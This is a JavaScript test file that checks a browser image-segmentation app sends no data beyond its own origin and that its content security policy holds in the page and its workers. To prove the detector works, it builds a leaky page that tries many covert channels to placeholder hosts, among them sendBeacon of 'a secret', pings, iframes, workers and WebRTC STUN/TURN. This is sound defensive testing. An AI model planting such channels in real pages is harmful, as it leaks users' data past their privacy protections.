// Privacy: every request that the browser makes is recorded and attributed to the page or to the browser.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { setTimeout as wait } from "node:timers/promises";
import { BUNDLE, DIST, visit } from "./browser.mjs";
import { noScenes, scenePath } from "./readers.mjs";
import { watched } from "./witness.mjs";

/** Code that tries to send data in several ways, in the page or a worker; returns the CSP directives that block it. */
const TRIES = `(async () => {
  const tried = {
    fetch: () => fetch("http://elsewhere.invalid/x", { mode: "no-cors" }),
    socket: () => new Promise((done, failed) => {
      const socket = new WebSocket("ws://elsewhere.invalid/x");
      socket.onopen = done;
      socket.onerror = () => failed(new Error("no socket"));
    }),
    script: () => import("http://elsewhere.invalid/x.js"),
  };
  const violations = [];
  addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
  for (const [name, attempt] of Object.entries(tried)) await attempt().catch(() => {});
  await new Promise((done) => setTimeout(done, 100));
  return violations;
})()`;

test("behind a proxy that writes down every request, none of the page or its workers goes anywhere but to its own origin", async () => {
  const found = await watched(DIST, async ({ stage, site, proxy }) => {
    const context = await stage.browser.newContext({ viewport: { width: 1280, height: 800 } });
    const { page, person, foreign } = await visit(context, `${site.url}?weights=${BUNDLE}`);
    await person.waitForModel();
    await person.isKept();
    if (noScenes) await person.pickSample(0);
    else {
      await person.chooseFiles(scenePath("deflate.tif"));
      await person.seesImage("deflate.tif");
    }
    await person.segment("a secret building");
    for (const kind of ["mask-png", ...(noScenes ? [] : ["geojson", "kml", "geopackage"])]) await person.save(kind);
    await page.keyboard.press("Escape");
    await page.getByText("Model and engine", { exact: true }).click();
    await page.locator("#diagnostics").click();
    await page.reload();
    await person.waitForModel();
    assert.ok(proxy.asked.length > 20, `the proxy saw the page load: ${proxy.asked.length} requests`);
    assert.deepEqual(foreign, []);
    const asked = site.requests.join("\n");
    assert.ok(!/secret|deflate/.test(asked), "neither phrase nor file name is in an address");

    // The page's policy blocks such requests, in the page and in each of its workers.
    assert.ok((await page.evaluate(TRIES)).includes("connect-src"), "the page's own policy forbids it");
    const workers = page.workers();
    assert.ok(workers.length >= 2, `model and scene worker: ${workers.map((worker) => worker.url())}`);
    for (const worker of workers) {
      assert.ok((await worker.evaluate(TRIES)).includes("connect-src"), `the policy holds in ${await worker.evaluate(() => self.name)}`);
    }
  });
  assert.deepEqual(found.page, [], "what the page, a frame or a worker of it has asked for elsewhere");
  assert.deepEqual(found.unexplained, [], `not by the browser itself; that is ${found.browser}`);
});

/** Ways to send data from a page without a policy, by the name of the host that each requests: in its markup, */
const MARKUP = {
  stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
  prefetch: (url) => `<link rel="prefetch" href="${url}">`,
  preload: (url) => `<link rel="modulepreload" href="${url}">`,
  image: (url) => `<img src="${url}" alt="">`,
  frame: (url) => `<iframe src="${url}"></iframe>`,
  sandbox: (url) => `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${url}')</script>"></iframe>`,
};
/** in its script, */
const SCRIPT = {
  fetch: (url) => `fetch("${url}", { mode: "no-cors" })`,
  "fetch-tls": (url) => `fetch("${url.replace("http:", "https:")}", { mode: "no-cors" })`,
  beacon: (url) => `navigator.sendBeacon("${url}", "a secret")`,
  socket: (url) => `new WebSocket("${url.replace("http:", "ws:")}")`,
  events: (url) => `new EventSource("${url}")`,
  module: (url) => `import("${url}")`,
  window: (url) => `open("${url}")`,
  ping: (url) => `Object.assign(document.createElement("a"), { href: "#", ping: "${url}" }).click()`,
  blob: (url) => `new Worker(URL.createObjectURL(new Blob(['fetch("${url}")'])))`,
};
/** and in a worker, a shared worker and the service worker. */
const WORKERS = {
  "worker.js": {
    "worker-import": (url) => `importScripts("${url}")`,
    "worker-fetch": (url) => `fetch("${url}")`,
    "worker-socket": (url) => `new WebSocket("${url.replace("http:", "ws:")}")`,
  },
  "shared.js": { "shared-fetch": (url) => `fetch("${url}")` },
  "sw.js": { "sw-fetch": (url) => `fetch("${url}")` },
};
/** Unused addresses (reserved for documentation) that WebRTC contacts by UDP and by TCP, regardless of any policy. */
const STUN = "203.0.113.7:3478";
const TURN = "203.0.113.8:3478";
const START = `
  new Worker("worker.js");
  new SharedWorker("shared.js");
  navigator.serviceWorker.register("sw.js");
  const peer = new RTCPeerConnection({ iceServers: [
    { urls: "stun:${STUN}" },
    { urls: "turn:${TURN}?transport=tcp", username: "a", credential: "secret" },
  ] });
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;

const address = (name) => `http://${name}.invalid/x`;
const lines = (ways, form) => Object.entries(ways).map(([name, way]) => form(way(address(name)))).join("\n");
/** Tries every way, even if one throws or is blocked. */
const attempts = (ways) => lines(ways, (code) => `try { Promise.resolve(${code}).catch(() => {}); } catch {}`);

/** Writes that page to `folder` and returns the names of the hosts that it requests. */
function writeLeak(folder) {
  const html = `<!doctype html><html lang="en"><title>leak</title>${lines(MARKUP, String)}
<script type="module">${attempts(SCRIPT)}${START}</script></html>`;
  writeFileSync(join(folder, "index.html"), html);
  for (const [name, ways] of Object.entries(WORKERS)) writeFileSync(join(folder, name), attempts(ways));
  return [MARKUP, SCRIPT, ...Object.values(WORKERS)].flatMap(Object.keys);
}

test("a page without a policy that sends something elsewhere is found out, by each way; a typed address is not its own", async () => {
  const folder = mkdtempSync(join(tmpdir(), "s4eca-leak-"));
  try {
    const names = writeLeak(folder);
    // WebRTC uses all interfaces except loopback.
    const isConnected = Object.values(networkInterfaces()).flat().some(({ internal }) => !internal);
    const found = await watched(folder, async ({ stage, site, proxy }) => {
      const context = await stage.browser.newContext();
      const page = await context.newPage();
      await page.goto(site.url, { waitUntil: "commit" });
      const typed = await context.newPage();
      await typed.goto("http://typed.invalid/").catch(() => {});
      const isAsked = (name) => proxy.asked.some((host) => host.startsWith(name));
      const missing = () => [...names.map((name) => `${name}.invalid:`), ...(isConnected ? [TURN] : [])].filter((name) => !isAsked(name));
      for (let i = 0; i < 600 && missing().length > 0; i += 1) await wait(100);
      assert.deepEqual(missing(), [], "the page does send, by each way");
    });
    const hosts = new Set(found.page.map((url) => new URL(url).hostname));
    assert.deepEqual([...hosts].sort(), names.map((name) => `${name}.invalid`).sort());
    assert.deepEqual(found.unexplained.sort(), isConnected ? [STUN, TURN] : []);
    assert.ok(found.browser.includes("typed.invalid:80"), `the browser's own: ${found.browser}`);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
